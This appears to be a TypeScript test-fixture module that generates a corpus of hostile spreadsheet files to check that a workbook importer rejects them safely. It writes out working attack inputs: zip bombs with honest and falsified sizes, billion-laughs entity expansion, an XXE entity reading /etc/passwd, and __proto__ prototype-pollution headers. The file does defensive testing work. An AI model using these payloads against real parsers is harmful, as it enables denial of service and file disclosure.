// The hostile corpus: every bad workbook of issue 6, generated at test time (no committed binaries).
// Each case says what must come of it: a typed WorkbookError code, or a plan with the facts probed.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import type { ImportResult, WorkbookErrorCode } from '../../packages/xlsx/src/index';
import { ole2File } from './ole2';
import { rawZip, repeatedDeflate } from './rawZip';
import { columnLetters, escapeXml, rowsXml, worksheetXml, xlsxOf, type CellXml } from './sheetXml';

/** What a case must end in: a WorkbookError with this code, or a plan whose probe gives `expected`. */
export type Outcome = { error: WorkbookErrorCode } | { probe: (result: ImportResult) => string; expected: string };

/** One file of the corpus. */
export interface CorpusCase {
  id: string;
  file: string;
  label: string;
  make: () => Uint8Array;
  outcome: Outcome;
}

// Seed 003 (City of London, Ofsted July 2016), verbatim: header and the first two actions.
const HEADER: CellXml[] = ['Ref:', 'Action:', 'Start:', 'End:', 'Lead officer:', 'RAG status:'];
const TITLE_11 = 'Review and revise layout of Early Help plans in partnership with Multi-Agency Practitioner Forum (MAPF)';
const ROW_11: CellXml[] = ['1.1', escapeXml(TITLE_11), 'Jan-17', 'Feb-17', 'RG', 'Amber'];
const ROW_18: CellXml[] = ['1.8', 'Initiate pilot of new plan templates in', '1.3.17', '31.3.17', 'RG', 'Green'];
const PLAN_ROWS = [HEADER, ROW_11, ROW_18];

const plan = (rows = PLAN_ROWS, name = 'Action Plan'): Uint8Array => xlsxOf([{ name, rows }]);
const refs = (result: ImportResult): string => result.plan.actions.map((a) => `${a.ref ?? '–'} ${a.title.length > 40 ? `${a.title.slice(0, 40)}…` : a.title}`).join('; ');
const action = (result: ImportResult, ref: string) => result.plan.actions.find((a) => a.ref === ref);
// Code points of the characters that are not `|` (what a probe blanked out).
const codePoints = (text: string | undefined): string =>
  [...(text ?? '')].filter((char) => char !== '|').map((char) => `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`).join(' ');

function truncated(fraction: number): Uint8Array {
  const bytes = plan();
  return bytes.subarray(0, Math.max(1, Math.floor(bytes.length * fraction)));
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`;

/** A sheet holding 600 MB of rows once inflated, in a file of a few hundred kilobytes. */
function zipBomb(): Uint8Array {
  const sheet = plan();
  const rows = new TextEncoder().encode('<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>'.repeat(16_384));
  const head = new TextEncoder().encode(worksheetXml('').replace('</sheetData></worksheet>', ''));
  return rawZip([
    ...entriesOf(sheet).filter((e) => e.name !== 'xl/worksheets/sheet1.xml'),
    { name: 'xl/worksheets/sheet1.xml', ...concatDeflate(head, repeatedDeflate(rows, 600)) },
  ]);
}

/** A sheet that declares 1 KB but inflates to 50 MB: a zip whose sizes lie. */
function lyingBomb(): Uint8Array {
  const rows = new TextEncoder().encode(`<row r="2"><c r="A2" t="inlineStr"><is><t>${'x'.repeat(1000)}</t></is></c></row>`.repeat(1000));
  const bomb = repeatedDeflate(rows, 50);
  return rawZip([...entriesOf(plan()).filter((e) => e.name !== 'xl/worksheets/sheet1.xml'), { name: 'xl/worksheets/sheet1.xml', ...bomb, size: 1024 }]);
}

// The sheet's opening tags, deflated on their own, then the repeated rows: the stream inflates to both.
function concatDeflate(head: Uint8Array, body: { deflated: Uint8Array; crc: number; size: number }): { deflated: Uint8Array; crc: number; size: number } {
  const first = repeatedDeflate(head, 1);
  const deflated = new Uint8Array(first.deflated.length - 2 + body.deflated.length);
  deflated.set(first.deflated.subarray(0, first.deflated.length - 2));
  deflated.set(body.deflated, first.deflated.length - 2);
  // The CRC is not checked before the size limit refuses the part; the size is what must be declared.
  return { deflated, crc: 0, size: head.length + body.size };
}

/** The entries of a zip written by rawZip, inflated again (for cases that swap one part). */
function entriesOf(zip: Uint8Array): Array<{ name: string; data: Uint8Array }> {
  const view = Buffer.from(zip);
  const entries: Array<{ name: string; data: Uint8Array }> = [];
  for (let at = 0; view.readUInt32LE(at) === 0x04034b50; ) {
    const compressed = view.readUInt32LE(at + 18);
    const nameLength = view.readUInt16LE(at + 26);
    const name = view.toString('utf8', at + 30, at + 30 + nameLength);
    const start = at + 30 + nameLength;
    entries.push({ name, data: new Uint8Array(inflateRawSync(view.subarray(start, start + compressed))) });
    at = start + compressed;
  }
  return entries;
}

function paddedRows(valueInLastRow: boolean): Uint8Array {
  const padding = Array.from({ length: 1_048_576 - 3 }, (_, i) => `<row r="${i + 4}" s="1" customFormat="1"/>`).join('');
  const end = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>end</t></is></c></row>';
  const rows = rowsXml(PLAN_ROWS) + (valueInLastRow ? padding.slice(0, padding.lastIndexOf('<row')) + end : padding);
  return xlsxOf([{ name: 'Action Plan', xml: worksheetXml(rows) }]);
}

function wideHeader(): Uint8Array {
  const header = [...HEADER, ...Array.from({ length: 16_384 - HEADER.length }, (_, c) => `Column ${columnLetters(c + HEADER.length)}`)];
  return plan([header, ROW_11, ROW_18]);
}

const longText = (length: number): string => 'Review and revise layout of Early Help plans. '.repeat(Math.ceil(length / 46)).slice(0, length);

/** Every case of the corpus, in the order of issue 6. */
export const corpusCases: CorpusCase[] = [
  { id: 'not-a-zip', file: 'not-a-zip.xlsx', label: 'random bytes named .xlsx', make: () => Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 251), outcome: { error: 'not-a-zip' } },
  ...[0.002, 0.25, 0.5, 0.75, 0.99].map((fraction): CorpusCase => ({
    id: `truncated-${Math.round(fraction * 1000) / 10}`,
    file: `truncated-${Math.round(fraction * 1000)}.xlsx`,
    label: `a real workbook cut at ${Math.round(fraction * 1000) / 10}% of its bytes`,
    make: () => truncated(fraction),
    outcome: { error: 'truncated' },
  })),
  { id: 'empty', file: 'empty.xlsx', label: 'a file of 0 bytes', make: () => new Uint8Array(0), outcome: { error: 'empty' } },
  { id: 'empty-workbook', file: 'empty-workbook.xlsx', label: 'a valid workbook whose only sheet has no cells', make: () => plan([]), outcome: { error: 'empty' } },
  { id: 'zip-bomb', file: 'zip-bomb.xlsx', label: 'a sheet that inflates to 582 MB from a file under 1 MB, sizes declared honestly', make: zipBomb, outcome: { error: 'too-large' } },
  { id: 'lying-zip-bomb', file: 'lying-zip-bomb.xlsx', label: 'a sheet that inflates to 50 MB while its zip entry declares 1 KB', make: lyingBomb, outcome: { error: 'truncated' } },
  {
    id: 'doctype-sheet', file: 'doctype-sheet.xlsx', label: 'billion laughs (DOCTYPE with nested entities) in a sheet',
    make: () => xlsxOf([{ name: 'Action Plan', xml: worksheetXml(rowsXml([HEADER, ['1.1', '&lol9;']]), LAUGHS) }]), outcome: { error: 'unsafe-xml' },
  },
  {
    id: 'doctype-shared-strings', file: 'doctype-shared-strings.xlsx', label: 'billion laughs in sharedStrings.xml',
    make: () => xlsxOf([{ name: 'Action Plan', rows: [HEADER, ['1.1', null]] }], { sharedStrings: `<?xml version="1.0" encoding="UTF-8"?>${LAUGHS}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>` }),
    outcome: { error: 'unsafe-xml' },
  },
  {
    id: 'external-entity', file: 'external-entity.xlsx', label: 'an external entity (SYSTEM "file:///etc/passwd") in a sheet',
    make: () => xlsxOf([{ name: 'Action Plan', xml: worksheetXml(rowsXml([HEADER, ['1.1', '&xxe;']]), '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') }]), outcome: { error: 'unsafe-xml' },
  },
  { id: 'padded-rows', file: 'padded-rows.xlsx', label: 'a sheet padded with formatted empty rows to row 1,048,576', make: () => paddedRows(false), outcome: { probe: refs, expected: `1.1 ${TITLE_11.slice(0, 40)}…; 1.8 Initiate pilot of new plan templates in` } },
  { id: 'value-in-last-row', file: 'value-in-last-row.xlsx', label: 'a value in row 1,048,576', make: () => paddedRows(true), outcome: { error: 'too-large' } },
  { id: 'columns-16384', file: 'columns-16384.xlsx', label: 'a header row with values in all 16,384 columns (A to XFD)', make: wideHeader, outcome: { error: 'too-large' } },
  {
    id: 'cell-32767', file: 'cell-32767.xlsx', label: 'an action title of 32,767 characters (Excel\'s limit)',
    make: () => plan([HEADER, ['1.1', longText(32_767), 'Jan-17', 'Feb-17', 'RG', 'Amber']]),
    outcome: { probe: (r) => `title of 1.1: ${action(r, '1.1')?.title.length.toLocaleString('en-GB')} characters`, expected: 'title of 1.1: 32,767 characters' },
  },
  { id: 'cell-32768', file: 'cell-32768.xlsx', label: 'a cell of 32,768 characters (more than Excel allows)', make: () => plan([HEADER, ['1.1', longText(32_768)]]), outcome: { error: 'too-large' } },
  {
    id: 'surrogates-controls', file: 'surrogates-controls.xlsx', label: 'lone surrogates and control characters in shared strings, escaped as Excel writes them (_xD800_, _x0007_)',
    make: () => xlsxOf([{ name: 'Action Plan', rows: [HEADER, ['1.1', { n: 0, shared: true }, 'Jan-17', 'Feb-17', 'RG', 'Amber']] }], {
      sharedStrings: '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>Lone _xD800_ high, _xDC00_ low, bell _x0007_, escape _x001B_ end</t></si></sst>',
    }),
    outcome: { probe: (r) => codePoints(action(r, '1.1')?.title.replace(/[a-z ,]/gi, '|')), expected: 'U+D800 U+DC00 U+0007 U+001B' },
  },
  {
    id: 'surrogates-inline', file: 'surrogates-inline.xlsx', label: 'the same escapes in an inline string (`<is><t>`), as other writers put them',
    make: () => plan([HEADER, ['1.1', 'Lone _xD800_ high, _xDC00_ low, bell _x0007_, escape _x001B_ end', 'Jan-17', 'Feb-17', 'RG', 'Amber']]),
    outcome: { probe: (r) => codePoints(action(r, '1.1')?.title.replace(/[a-z ,]/gi, '|')), expected: 'U+D800 U+DC00 U+0007 U+001B' },
  },
  {
    id: 'raw-control-bytes', file: 'raw-control-bytes.xlsx', label: 'raw control characters (U+0001, U+001F) in the XML, which XML forbids',
    make: () => plan([HEADER, ['1.1', 'Start\u0001 and \u001f end', 'Jan-17', 'Feb-17', 'RG', 'Amber']]), outcome: { error: 'truncated' },
  },
  {
    id: 'formula-errors', file: 'formula-errors.xlsx', label: '#REF! errors, a shared formula and a formula calling WEBSERVICE',
    make: () => plan([
      [...HEADER, 'Score'],
      ['1.1', escapeXml(TITLE_11), 'Jan-17', 'Feb-17', 'RG', { f: '#REF!', v: '#REF!', t: 'e' }, { f: 'LEN(B2)', v: '104', shared: { si: 0, ref: 'G2:G3' } }],
      ['1.8', { f: 'WEBSERVICE("http://example.invalid/?"&amp;B2)', v: 'Initiate pilot of new plan templates in', t: 'str' }, '1.3.17', '31.3.17', { e: '#REF!' }, 'Green', { f: '', v: '39', shared: { si: 0 } }],
    ]),
    outcome: {
      probe: (r) => {
        const cells = r.grid.sheets[0]!.rows.slice(1).map((row) => [row[1]?.formula, row[4]?.error, row[5]?.error, row[6]?.text].map((v) => v ?? '–').join(' | '));
        return `${refs(r)} || ${cells.join(' / ')}`;
      },
      expected: `1.1 ${TITLE_11.slice(0, 40)}…; 1.8 Initiate pilot of new plan templates in || – | – | #REF! | 104 / WEBSERVICE("http://example.invalid/?"&B2) | #REF! | – | 39`,
    },
  },
  {
    id: 'date-1904', file: 'date-1904.xlsx', label: 'the 1904 date system (Mac Excel): serial 41697 is 28 Feb 2018 there, 26 Feb 2014 in the 1900 system',
    make: () => xlsxOf([{ name: 'Action Plan', rows: [HEADER, ['1.1', escapeXml(TITLE_11), 'Jan-17', { n: 41697, s: 1 }, 'RG', 'Amber']] }], { date1904: true }),
    outcome: { probe: (r) => `due ${action(r, '1.1')?.due}`, expected: 'due 2018-02-28' },
  },
  {
    id: 'dates-before-1900', file: 'dates-before-1900.xlsx', label: 'dates before 1900: the text "31/12/1899" and a negative date serial',
    make: () => plan([HEADER, ['1.1', escapeXml(TITLE_11), '31/12/1899', { n: -5, s: 1 }, 'RG', 'Amber']]),
    outcome: { probe: (r) => `start ${action(r, '1.1')?.start} "${action(r, '1.1')?.startText}", due ${action(r, '1.1')?.due} "${action(r, '1.1')?.dueText}"`, expected: 'start 1899-12-31 "31/12/1899", due 1899-12-25 "25 Dec 1899"' },
  },
  { id: 'encrypted', file: 'encrypted.xlsx', label: 'a password-protected workbook (OLE2 with EncryptionInfo and EncryptedPackage)', make: () => ole2File(['EncryptionInfo', 'EncryptedPackage']), outcome: { error: 'encrypted' } },
  { id: 'xls-renamed', file: 'xls-renamed.xlsx', label: 'an old .xls (OLE2 with a Workbook stream) renamed .xlsx', make: () => ole2File(['Workbook']), outcome: { error: 'xls' } },
  { id: 'csv-renamed', file: 'csv-renamed.xlsx', label: 'a .csv renamed .xlsx', make: () => new TextEncoder().encode(`Ref:,Action:,Start:,End:\n1.1,"${TITLE_11}",Jan-17,Feb-17\n`), outcome: { error: 'csv' } },
  { id: 'word-in-zip', file: 'word-in-zip.xlsx', label: 'a Word document renamed .xlsx', make: () => rawZip([{ name: 'word/document.xml', data: new TextEncoder().encode('<w:document/>') }]), outcome: { error: 'not-xlsx' } },
  {
    id: 'sheet-names', file: 'sheet-names.xlsx', label: "sheets named 'Plan' (with quotes), Plan «2012», План and 計画",
    make: () => xlsxOf(["'Plan'", 'Plan «2012»', 'План', '計画'].map((name, i) => ({ name, rows: i === 0 ? PLAN_ROWS : [['Notes'], [name]] }))),
    outcome: { probe: (r) => `${r.grid.sheets.map((s) => s.name).join(' | ')} → ${r.plan.actions.map((a) => `${a.ref}@${a.source?.sheet}`).join(', ')}`, expected: "'Plan' | Plan «2012» | План | 計画 → 1.1@'Plan', 1.8@'Plan'" },
  },
  {
    id: 'proto-headers', file: 'proto-headers.xlsx', label: 'header cells __proto__, constructor and toString, with values under them',
    make: () => plan([[...HEADER, '__proto__', 'constructor', 'toString'], [...ROW_11, '{"polluted":1}', 'x', 'y'], [...ROW_18, 'z', 'w', 'v']]),
    // Every column is kept as an own extra field, __proto__ too; nothing is polluted.
    outcome: {
      probe: (r) => `extra of 1.1: ${JSON.stringify(action(r, '1.1')?.extra)}; Object.prototype polluted: ${'polluted' in Object.prototype}`,
      expected: 'extra of 1.1: {"__proto__":"{\\"polluted\\":1}","constructor":"x","toString":"y"}; Object.prototype polluted: false',
    },
  },
];

/**
 * Writes every case into `folder`, returning the path of each by id.
 *
 * @example
 * const paths = writeCorpus(mkdtempSync(join(tmpdir(), 'corpus-')));
 */
export function writeCorpus(folder: string): Map<string, string> {
  mkdirSync(folder, { recursive: true });
  return new Map(corpusCases.map((c) => {
    const path = join(folder, c.file);
    writeFileSync(path, c.make());
    return [c.id, path];
  }));
}
